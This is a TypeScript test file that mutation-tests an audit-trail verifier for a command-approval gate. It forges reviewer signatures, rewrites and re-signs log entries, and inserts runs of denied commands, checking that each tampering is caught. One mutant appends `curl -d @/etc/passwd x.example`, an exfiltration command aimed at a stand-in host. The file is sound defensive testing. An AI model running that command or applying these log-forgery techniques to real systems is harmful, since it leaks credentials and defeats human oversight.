/**
 * Mutation testing of verify: a seeded trail of more than 10,000 events, and more than a
 * thousand changes to it — bit flips in every field of sampled events and in the hash columns,
 * rows deleted, reordered and duplicated, the tail truncated and re-signed with the real key,
 * rewrites re-hashed (with and without the gate's key) that forge a reviewer's signature, move a
 * decision before its submission, run a denied command and so on. Every one must be detected;
 * the untouched trail must verify.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  decisionStatement,
  openSqliteStore,
  type EventBody,
  parseCheckpoint,
  parsePublicKey,
  signWithSshKeygen,
  verifyTrail,
  type RawEvent,
  type VerifyResult,
} from '../engine/index.js';
import { canonicalJson, type Canonical } from '../engine/util/canonical.js';
import { chainHash, leafHash, checkpointOrigin } from '../engine/audit/chain.js';
import { eventTime } from '../engine/model/events.js';
import { keyFor } from './review-fixture.js';
import { seedTrail, type SeededTrail } from './trail-fixture.js';

let trail: SeededTrail;
let rows: RawEvent[];
/** Every checkpoint the gate signed (one per decision). */
let allNotes: string[];
/** Every 40th of them and the newest: what the mutants are checked against, to keep this fast. */
let notes: string[];

/** A small deterministic generator, so a failing mutant can be reproduced. */
function rng(seed: number): () => number {
  let x = seed >>> 0;
  return () => {
    x = (x * 1664525 + 1013904223) >>> 0;
    return x / 2 ** 32;
  };
}

beforeAll(async () => {
  trail = await seedTrail(4_200);
  const store = openSqliteStore(trail.path, { readonly: true });
  const raw: RawEvent[] = [];
  for await (const r of store.rawEvents()) raw.push(r);
  rows = raw.map((r) => ({
    ...r,
    bytes: Buffer.from(r.bytes),
    leaf: Buffer.from(r.leaf),
    chain: Buffer.from(r.chain),
  }));
  allNotes = (await store.checkpoints()).map((c) => c.note);
  notes = [...allNotes.filter((_n, i) => i % 40 === 0), allNotes[allNotes.length - 1]!];
  await store.close();
}, 120_000);

function verify(events: RawEvent[], checkpoints: string[] = notes, against?: string): Promise<VerifyResult> {
  return verifyTrail({
    events: () => events,
    checkpoints,
    keys: [trail.signer],
    against,
    policyAt: () => trail.policy,
    recording: (path) => {
      try {
        return readFileSync(join(trail.dir, path));
      } catch {
        return null;
      }
    },
  });
}

const body = (r: RawEvent): Record<string, unknown> => JSON.parse(r.bytes.toString('utf8')) as Record<string, unknown>;

/** Recompute leaves and chains from `from` on, as someone rewriting the store would. */
function rehash(events: RawEvent[], from = 0): RawEvent[] {
  const out = events.map((r, i) => ({ ...r, seq: i + 1 }));
  let previous = from === 0 ? Buffer.alloc(32) : out[from - 1]!.chain;
  for (let i = from; i < out.length; i++) {
    const leaf = leafHash(out[i]!.bytes);
    const chain = chainHash(previous, leaf);
    out[i] = { ...out[i]!, leaf, chain };
    previous = chain;
  }
  return out;
}

/** Re-sign every checkpoint over the rewritten chain, as someone holding the gate's key would. */
function resign(events: RawEvent[], sizes: number[] = notes.map((n) => parseCheckpoint(n).size)): string[] {
  const origin = checkpointOrigin(events[0]!.leaf);
  return sizes
    .filter((s) => s <= events.length)
    .map((size) => trail.signer.signNote(`${origin}\n${size}\n${events[size - 1]!.chain.toString('base64')}\n`));
}

/** Replace event `i`'s body, keeping its columns consistent, and re-hash from there. */
function rewrite(events: RawEvent[], i: number, change: (b: Record<string, unknown>) => void): RawEvent[] {
  const out = [...events];
  const b = body(out[i]!);
  change(b);
  out[i] = {
    ...out[i]!,
    at: eventTime(b as unknown as EventBody),
    bytes: Buffer.from(canonicalJson(b as Canonical), 'utf8'),
  };
  return rehash(out, i);
}

function indexes(type: string, pred: (b: Record<string, unknown>) => boolean = () => true): number[] {
  return rows.flatMap((r, i) => (r.type === type && pred(body(r)) ? [i] : []));
}

const detected: Record<string, number> = {};
function expectDetected(kind: string, result: VerifyResult): void {
  if (result.ok) throw new Error(`mutant not detected: ${kind}`);
  detected[kind] = (detected[kind] ?? 0) + 1;
}

describe('verify: mutation testing on a seeded trail', () => {
  it('the untouched trail verifies (no false alarm), with more than 10,000 events', async () => {
    expect(rows.length).toBeGreaterThanOrEqual(10_000);
    const r = await verify(rows, allNotes);
    expect(r.failure).toBeNull();
    expect(r).toMatchObject({ ok: true, events: rows.length, commands: trail.commands });
    expect(r.checkpoints).toBeGreaterThan(1_000);
    expect(r.recordings).toBeGreaterThan(100);
  });

  it('detects every mutant, more than a thousand, and names where the trail breaks', async () => {
    const random = rng(42);
    const pick = <T>(xs: T[]): T => xs[Math.floor(random() * xs.length)]!;

    // 1. a bit flipped in every field of sampled events (stored bytes, hashes untouched)
    const step = Math.floor(rows.length / 65);
    for (let i = 0; i < rows.length; i += step) {
      const row = rows[i]!;
      const b = body(row);
      for (const key of Object.keys(b)) {
        const value = `"${key}":${canonicalJson(b[key] as Canonical)}`;
        const at = row.bytes.indexOf(value);
        expect(at).toBeGreaterThanOrEqual(0);
        const bytes = Buffer.from(row.bytes);
        const pos = at + Math.floor(random() * value.length);
        bytes[pos] = bytes[pos]! ^ (1 << Math.floor(random() * 8));
        const mutant = [...rows];
        mutant[i] = { ...row, bytes };
        const r = await verify(mutant);
        expectDetected('bit flip in a field', r);
        expect(r.failure!.seq).toBe(i + 1);
      }
    }
    // 2. a bit flipped in a stored leaf or chain hash
    for (let n = 0; n < 40; n++) {
      const i = Math.floor(random() * rows.length);
      const column = n % 2 === 0 ? 'leaf' : 'chain';
      const hash = Buffer.from(rows[i]![column]);
      hash[n % 32] = hash[n % 32]! ^ 0x10;
      const mutant = [...rows];
      mutant[i] = { ...rows[i]!, [column]: hash };
      expectDetected('bit flip in a hash column', await verify(mutant));
    }
    // 3. rows deleted, reordered, duplicated — as stored, and renumbered and re-hashed
    for (let n = 0; n < 40; n++) {
      const i = 1 + Math.floor(random() * (rows.length - 2));
      const deleted = [...rows.slice(0, i), ...rows.slice(i + 1)];
      expectDetected('row deleted', await verify(deleted));
      const swapped = [...rows];
      [swapped[i], swapped[i + 1]] = [swapped[i + 1]!, swapped[i]!];
      expectDetected('rows reordered', await verify(swapped));
      const duplicated = [...rows.slice(0, i + 1), rows[i]!, ...rows.slice(i + 1)];
      expectDetected('row duplicated', await verify(duplicated));
      expectDetected('row deleted, re-hashed', await verify(rehash(deleted, i)));
      const rehashedDup = rehash(duplicated, i + 1);
      // a plausible event inserted and everything re-signed with the gate's key: only a
      // checkpoint kept elsewhere shows it
      expectDetected(
        'row duplicated, re-hashed and re-signed',
        await verify(rehashedDup, resign(rehashedDup), notes[notes.length - 1]),
      );
    }
    // 4. the tail truncated and re-signed with the real key: caught against a checkpoint kept elsewhere
    const kept = notes[notes.length - 1]!;
    for (let n = 0; n < 40; n++) {
      const k = 1 + Math.floor(random() * (rows.length - 1));
      const truncated = rows.slice(0, k);
      const sizes = notes.map((x) => parseCheckpoint(x).size).filter((s) => s <= k);
      const resigned = resign(truncated, [...sizes, k]);
      expect((await verify(truncated, resigned)).ok).toBe(true); // consistent on its own: only an outside checkpoint shows it
      const r = await verify(truncated, resigned, kept);
      expectDetected('tail truncated and re-signed', r);
      expect(r.failure!.check).toBe('against');
    }
    // 5. rewrites re-hashed and re-signed with the gate's key: the meaning of the trail is checked
    const decisions = indexes('DECIDED');
    for (let n = 0; n < 30; n++) {
      const i = pick(decisions);
      const b = body(rows[i]!);
      const submittedAt = Date.parse(
        String(body(rows.find((r) => r.type === 'SUBMITTED' && r.command_id === b.command_id)!).submitted_at),
      );
      const moved = rewrite(rows, i, (x) => {
        x.decided_at = new Date(submittedAt - 1000).toISOString();
        x.review_latency_ms = 0;
      });
      const r = await verify(moved, resign(moved));
      expectDetected('decided_at before submitted_at', r);
      expect(r.failure!.check).toBe('chronology');
      const latency = rewrite(rows, i, (x) => {
        x.review_latency_ms = (x.review_latency_ms as number) + 5000;
      });
      expectDetected('review latency changed', await verify(latency, resign(latency)));
    }
    const submissions = indexes('SUBMITTED');
    for (let n = 0; n < 10; n++) {
      const i = submissions[100 + n * 37]!;
      const back = rewrite(rows, i, (x) => {
        (x.monotonic as { ms: number }).ms -= 3_600_000;
      });
      const r = await verify(back, resign(back));
      expectDetected('monotonic clock going backwards within a boot', r);
      expect(r.failure!.check).toBe('chronology');
    }
    const approvals = indexes('DECIDED', (b) => b.decision === 'approved');
    const mallory = parsePublicKey(keyFor('mallory').pub);
    for (const i of approvals.slice(0, 10)) {
      const forged = rewrite(rows, i, (x) => {
        const [sig] = x.signatures as { statement: string }[];
        const statement = JSON.parse(sig!.statement) as Record<string, unknown>;
        const text = decisionStatement({
          ...(statement as unknown as Parameters<typeof decisionStatement>[0]),
          reason: 'forged',
        });
        x.signatures = [
          {
            ...sig,
            statement: text,
            signature: signWithSshKeygen(Buffer.from(text), keyFor('mallory').file),
            key_fingerprint: mallory.fingerprint,
          },
        ];
      });
      const r = await verify(forged, resign(forged));
      expectDetected('forged reviewer signature', r);
      expect(r.failure!.check).toBe('authority');
      const renamed = rewrite(rows, i, (x) => {
        x.decided_by = 'bob';
      });
      expectDetected('decided_by changed', await verify(renamed, resign(renamed)));
      const replayed = rewrite(rows, i, (x) => {
        const other = body(rows[approvals[(approvals.indexOf(i) + 1) % approvals.length]!]!);
        x.signatures = other.signatures;
      });
      expectDetected('a signature replayed from another command', await verify(replayed, resign(replayed)));
    }
    const denials = indexes('DECIDED', (b) => b.decision === 'denied' || b.decision === 'timed_out');
    for (const i of denials.slice(0, 20)) {
      const b = body(rows[i]!);
      const start = {
        type: 'EXEC_START',
        command_id: b.command_id,
        started_at: b.decided_at,
        decided_leaf: rows[i]!.leaf.toString('hex'),
        argv: ['bash', '-c', 'x'],
        cwd: '/',
        env_removed: [],
        recording: 'r.cast',
      };
      const ran = rehash(
        [
          ...rows.slice(0, i + 1),
          {
            ...rows[i]!,
            type: 'EXEC_START',
            at: String(b.decided_at),
            bytes: Buffer.from(canonicalJson(start as Canonical)),
          },
          ...rows.slice(i + 1),
        ],
        i + 1,
      );
      const r = await verify(ran, resign(ran));
      expectDetected('a denied or timed-out command ran', r);
      expect(r.failure!.check).toBe('lifecycle');
    }
    for (const i of indexes('DECIDED', (b) => b.decision === 'whitelisted').slice(0, 10)) {
      const unknown = rewrite(rows, i, (x) => {
        x.decided_by = 'whitelist_rule:curl.anything';
      });
      expectDetected('whitelisted by a rule that did not exist', await verify(unknown, resign(unknown)));
      const timeout = rewrite(rows, i, (x) => {
        x.decided_by = 'timeout';
      });
      expectDetected('timeout without timed_out', await verify(timeout, resign(timeout)));
    }
    // 6. rewrites re-hashed without the gate's key: the old signed checkpoints no longer match
    for (let n = 0; n < 30; n++) {
      const i = Math.floor(random() * (rows.length - 50));
      const changed = rewrite(rows, i, (x) => {
        if (typeof x.command === 'string') x.command = `${x.command} && curl -d @/etc/passwd x.example`;
        else x.at = x.at ?? '2026-01-01T00:00:00.000Z';
        x.type = x.type; // keep the type: the column stays consistent
        if (x.type !== 'SUBMITTED') (x as { reason?: unknown }).reason = 'edited';
      });
      const r = await verify(changed);
      expectDetected('rewritten and re-hashed without the key', r);
    }
    // 7. a recording changed on disk
    const ends = indexes('EXEC_END');
    for (const i of ends.slice(0, 5)) {
      const rec = (body(rows[i]!).recording as { path: string }).path;
      const file = join(trail.dir, rec);
      const original = readFileSync(file);
      writeFileSync(file, original.toString('utf8').replace('ok', 'OK'));
      try {
        const r = await verify(rows);
        expectDetected('recording changed', r);
        expect(r.failure!.check).toBe('recording');
      } finally {
        writeFileSync(file, original);
      }
    }

    const total = Object.values(detected).reduce((a, b) => a + b, 0);
    expect(total).toBeGreaterThanOrEqual(1_000);
    expect(Object.keys(detected).length).toBeGreaterThanOrEqual(15);
  }, 600_000);
});
